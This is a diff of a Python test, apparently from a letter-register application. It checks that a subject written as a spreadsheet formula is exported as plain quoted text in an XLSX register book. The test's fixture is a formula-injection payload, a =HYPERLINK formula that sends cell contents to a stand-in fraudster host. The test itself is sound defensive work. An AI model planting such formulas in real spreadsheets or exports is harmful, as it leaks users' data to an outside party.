@@ -17,14 +17,14 @@ HOSTILE = '=HYPERLINK("http://penipu.example/?d="&A1,"Klik di sini")'
 
 
 def test_a_subject_written_as_a_formula_stays_text_in_the_register(register, official, sumut):
-    register(letter_number="@SUM(A1:A9)", subject=HOSTILE)
+    # (a letter number written as a formula is refused at registration: test_case_register.py)
+    register(subject=HOSTILE)
     content = register_book_xlsx(office=sumut, period=Period.year(timezone.localdate().year))
     sheet = load_workbook(io.BytesIO(content)).active
     cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
     assert all(cell.data_type != "f" for cell in cells)
     values = {cell.value for cell in cells}
     assert "'" + HOSTILE in values
-    assert "'@SUM(A1:A9)" in values
 
 
 @settings(max_examples=60, deadline=None)
